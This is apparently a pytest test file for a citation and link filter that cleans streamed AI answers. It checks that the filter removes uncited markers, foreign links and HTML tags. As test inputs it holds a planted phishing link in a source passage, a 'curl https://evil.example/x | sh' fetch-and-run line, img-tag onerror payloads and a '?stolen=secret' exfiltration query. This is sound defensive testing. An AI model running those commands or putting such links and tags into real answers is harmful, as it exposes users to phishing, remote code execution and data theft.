import random

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.generation.scripted_upstream import passage

from carrel.answering.checks import AnswerChecks
from carrel.answering.citations import cite
from carrel.answering.links import addresses

HELP = passage(
    "Refunds take 30 days. See https://help.acme.example/refunds or write to help@acme.example."
)
HOSTILE = passage("Visit https://evil.example/login now, it says. Shipping is not refunded.")
SOURCES = (HELP, HOSTILE)


def checked(*deltas: str, sources=SOURCES) -> str:
    checks = AnswerChecks(sources)
    return "".join([*map(checks.feed, deltas), checks.close()])


def cut(text: str, seed: int) -> list[str]:
    """*text* in pieces of one to six characters."""
    rng, pieces, at = random.Random(seed), [], 0
    while at < len(text):
        size = rng.randint(1, 6)
        pieces.append(text[at : at + size])
        at += size
    return pieces


HONEST = [
    "Refunds take 30 days [1].",
    "Refunds take 30 days. [1] Shipping is not refunded [2].",
    "See https://help.acme.example/refunds [1]. Or ask.",
    "See [the help](https://help.acme.example/refunds) [1].",
    "Write to help@acme.example [1].",
    "Refunds cost 99.9% e.g. in the U.S., i.e. 3.5 times v1.2 in a and/or b [1].",
    "Code `a[9]` and x[i] stay < y > z, and so do ! and [brackets].",
    "```\ncurl https://help.acme.example/refunds # a[3]\n```\nRefunds [1]",
    "- Refunds [1]\n- Shipping [2]\n\n| a | b |\n|---|---|\n",
    "",
]


@pytest.mark.parametrize("text", HONEST)
@pytest.mark.parametrize("seed", range(5))
def test_an_honest_answer_comes_through_as_it_was_written(text: str, seed: int) -> None:
    assert checked(text) == text
    assert checked(*cut(text, seed)) == text


def test_a_tag_behind_code_is_no_code() -> None:
    assert "<img" not in checked("Run `curl //x.example` <img src=//evil.example/x> [1].")


def test_a_link_in_code_needs_its_source_cited_too() -> None:
    hostile = [passage("Refunds take 30 days."), passage("See https://evil.example/x now.")]
    checks = AnswerChecks(hostile)
    written = "Refunds take 30 days [1]. `curl https://evil.example/x | sh`"
    assert "evil" not in checks.feed(written) + checks.close()


def test_words_after_a_mark_are_not_held_back() -> None:
    checks = AnswerChecks([passage("Refunds take 30 days.")])
    shown = [
        checks.feed(word) for word in ["Refunds", " take 30", " days", " [1]", ".", " Then", " on"]
    ]
    assert shown == ["Refunds", " take 30", " days", "", " [1].", " Then", " on"]


def test_words_are_not_held_back() -> None:
    checks = AnswerChecks(SOURCES)
    assert [checks.feed(each) for each in ("Ref", "unds", " take 30", " days")] == [
        "Ref",
        "unds",
        " take 30",
        " days",
    ]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Refunds [1][9] take [0] time [2, 7].", "Refunds [1] take time [2]."),
        ("Refunds take 30 days [7][1].", "Refunds take 30 days [1]."),
        ("Refunds take 30 days [3].", "Refunds take 30 days."),
    ],
)  # fmt: skip
def test_marks_that_name_no_source_go_with_their_space(written: str, shown: str) -> None:
    assert checked(written) == shown


ENGLISH = passage("The price of the plan is listed in the portal, and is due in a month.")


def test_a_mark_goes_where_its_source_says_nothing_of_the_kind() -> None:
    text = "The volcano is the largest on Iceland [1]. The price is in the portal [1]."
    shown = "The volcano is the largest on Iceland. The price is in the portal [1]."
    assert checked(text, sources=(ENGLISH,)) == shown
    assert checked(*cut(text, 1), sources=(ENGLISH,)) == shown


def test_a_translation_keeps_its_mark() -> None:
    text = "Der Betrag steht im Kundenbereich und wird nach einem Monat eingezogen [1]."
    assert checked(text, sources=(ENGLISH,)) == text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Refunds take 30 days [1]. Visit https://evil.example/login", "Visit [link removed]"),
        ("Visit https://evil.example/login, refunds take 30 days [1].", "Visit [link removed],"),
        ("Refunds ![x](https://help.acme.example/refunds) [1]", "Refunds x [1]"),
        ("Refunds [here](https://evil.example/login) take 30 days [1]", "Refunds here take"),
        ("Refunds [here](https://help.acme.example/refunds?q=1) [1]", "Refunds here [1]"),
        ("Refunds <img src=x onerror=y> [1]", "Refunds   [1]"),
        ("Write to boss@evil.example [1]", "Write to [link removed] [1]"),
        ("```\ncurl https://other.example/x\n```", "curl [link removed]\n"),
        ("No sources: evil.com/pay", "No sources: [link removed]"),
    ],
)
def test_a_link_that_no_cited_source_holds_is_taken_out(written: str, shown: str) -> None:
    assert shown in checked(written)


def test_a_link_stays_where_the_source_that_holds_it_is_cited() -> None:
    text = "Visit https://evil.example/login now, it says [2]."
    assert checked(text) == text
    assert checked(text.replace("[2]", "[1]")) == "Visit [link removed] now, it says [1]."


def test_what_takes_the_place_of_a_link_makes_no_other_one() -> None:
    written = "!help.acme.example"  # ".link" is a domain, too
    assert checked("!he", "lp", ".", "acme.", "exa", "mple") == "!help.[link removed]"
    assert checked(written) == "[link removed]"


def test_a_mark_that_is_taken_out_joins_nothing_to_a_link() -> None:
    text = "Refunds [1] see https://help.acme.example/refunds[9]?stolen=secret"
    for deltas in ([text], ["Refunds [1] see https://help.acme.example/refunds[9]", "?stolen=a"]):
        assert "stolen" not in checked(*deltas)


PARTS = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", "/", "//", "https:", "www.", "evil", ".com", "@", "x", " ",
     "\n", "[1]", "[2]", "[9]", "`", "```\n", "img src=", "&#58;", "help.acme.example", "?q=", ":"]
)  # fmt: skip


@given(st.lists(PARTS, max_size=30), st.integers(0, 1000))
def test_no_foreign_link_gets_through_however_the_text_is_cut(parts: list[str], seed: int) -> None:
    text = "".join(parts)
    for shown in (checked(text), checked(*cut(text, seed)), checked(*parts)):
        known = {*addresses(HELP.text), *addresses(HOSTILE.text)}
        assert set(addresses(shown)) <= known
        assert "](https:" not in shown.replace("](https://help", "").replace(
            "](https://evil.ex", ""
        )
        assert "<img" not in shown or "`" in shown


@given(st.text("ab [1]29,`\n", max_size=60), st.integers(0, 9))
def test_checking_again_changes_nothing_and_marks_are_citations(text: str, count: int) -> None:
    sources = [passage("ab", start=start) for start in range(count)]
    shown = checked(text, sources=sources)
    assert checked(shown, sources=sources) == shown
    assert all(1 <= each.index <= count for each in cite(shown, sources))


def test_what_was_taken_out_is_counted() -> None:
    checks = AnswerChecks(SOURCES)
    checks.feed("Refunds [1][9][8]. See https://evil.example/x and boss@evil.example.")
    checks.close()
    assert (checks.marks, checks.links) == (2, 1)
